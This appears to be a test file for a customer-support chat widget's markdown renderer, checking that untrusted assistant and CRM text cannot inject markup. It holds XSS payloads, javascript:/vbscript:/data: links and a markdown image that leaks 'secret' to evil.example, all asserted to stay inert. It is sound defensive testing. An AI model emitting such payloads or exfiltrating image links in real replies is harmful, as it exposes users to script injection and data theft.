// @vitest-environment jsdom
// Assistant and CRM text is untrusted (docs/threat-model.md X1–X6): only a small markdown subset becomes
// elements, everything else stays visible text.
import { render } from '@testing-library/preact';
import { describe, expect, it } from 'vitest';
import { parseInline, parseMarkdown } from '../../widget/panel/markdown.js';
import { Markdown } from '../../widget/panel/markdown-view.js';

function show(text: string): Element {
  return render(<Markdown text={text} />).container;
}

describe('safe markdown subset', () => {
  it('renders bold, italic, inline code and lists as elements', () => {
    const el = show('Your ticket is **open** and *urgent*: `T-1001`\n- first\n- second\n1. one\n2. two');
    expect(el.querySelector('strong')?.textContent).toBe('open');
    expect(el.querySelector('em')?.textContent).toBe('urgent');
    expect(el.querySelector('code')?.textContent).toBe('T-1001');
    expect([...el.querySelectorAll('ul > li')].map((li) => li.textContent)).toEqual(['first', 'second']);
    expect([...el.querySelectorAll('ol > li')].map((li) => li.textContent)).toEqual(['one', 'two']);
  });

  it('opens https links in a new tab without opener or referrer', () => {
    const a = show('See [our returns page](https://shop.example.com/returns).').querySelector('a');
    expect(a?.getAttribute('href')).toBe('https://shop.example.com/returns');
    expect(a?.getAttribute('target')).toBe('_blank');
    expect(a?.getAttribute('rel')).toBe('noopener noreferrer');
    expect(a?.textContent).toBe('our returns page');
  });

  it('links bare https URLs but leaves trailing punctuation outside', () => {
    const el = show('Go to https://shop.example.com/help.');
    expect(el.querySelector('a')?.getAttribute('href')).toBe('https://shop.example.com/help');
    expect(el.textContent).toBe('Go to https://shop.example.com/help.');
  });

  it('X1: HTML in a reply is shown as text and creates no element', () => {
    const el = show('<img src=x onerror=alert(1)> <b>hi</b> <script>alert(1)</script>');
    expect(el.querySelector('img, script, b')).toBeNull();
    expect(el.textContent).toBe('<img src=x onerror=alert(1)> <b>hi</b> <script>alert(1)</script>');
  });

  it.each([
    '[click](javascript:alert(1))',
    '[click](JaVaScRiPt:alert(1))',
    '[click](data:text/html;base64,PHNjcmlwdD4=)',
    '[click](http://insecure.example/)',
    '[click](//evil.example/x)',
    '[click](vbscript:msgbox)',
  ])('X2: %s stays inert text, never a link', (md) => {
    const el = show(md);
    expect(el.querySelector('a')).toBeNull();
    expect(el.textContent).toContain('click');
  });

  it('X3: a markdown image is shown literally and nothing is fetched', () => {
    const md = '![x](https://evil.example/c?d=secret)';
    const el = show(`Ticket subject: ${md}`);
    expect(el.querySelector('img, a')).toBeNull();
    expect(el.textContent).toBe(`Ticket subject: ${md}`);
  });

  it('X5: bidi overrides and invisible characters are removed', () => {
    // "T-1001" written with a right-to-left override and a zero-width space inside.
    const el = show('Ticket \u202eT-10\u200b01\u202c is open');
    expect(el.textContent).toBe('Ticket T-1001 is open');
  });

  it('X6: a tag split across stream deltas never becomes markup', () => {
    let text = '';
    const { container, rerender } = render(<Markdown text={text} />);
    for (const delta of ['Hello <scr', 'ipt>alert(1)</scr', 'ipt> **bold**']) {
      text += delta;
      rerender(<Markdown text={text} />);
    }
    expect(container.querySelector('script')).toBeNull();
    expect(container.textContent).toBe('Hello <script>alert(1)</script> bold');
    expect(container.querySelector('strong')?.textContent).toBe('bold');
  });

  it('keeps snake_case and lone asterisks as they are', () => {
    expect(parseInline('get_ticket_status costs 2 * 3 * 4')).toEqual(['get_ticket_status costs 2 * 3 * 4']);
  });

  it('splits paragraphs on blank lines and keeps single line breaks', () => {
    expect(parseMarkdown('a\nb\n\nc')).toEqual([
      { t: 'p', lines: [['a'], ['b']] },
      { t: 'p', lines: [['c']] },
    ]);
  });
});
